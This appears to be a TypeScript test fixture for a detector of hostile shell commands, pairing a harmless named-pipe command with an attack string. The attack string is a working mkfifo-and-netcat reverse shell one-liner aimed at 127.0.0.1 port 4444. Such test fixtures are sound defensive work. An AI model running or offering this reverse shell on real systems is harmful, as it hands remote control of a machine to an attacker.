import type { Scenario } from '../../support/attack-scenario.ts';

/** A shell is told to make a pipe between netcat and itself; another one uses a named pipe for its own data. */
export const scenario: Scenario = {
  nearMiss: "/bin/sh -c 'mkfifo /tmp/own; echo data >/tmp/own & cat /tmp/own | grep data'",
  attack: "/bin/sh -c 'mkfifo /tmp/f; (timeout 1 cat /tmp/f | /bin/sh -i 2>&1 | nc 127.0.0.1 4444 >/tmp/f) || true'",
  summary: /sh was given the code of a reverse shell/,
};
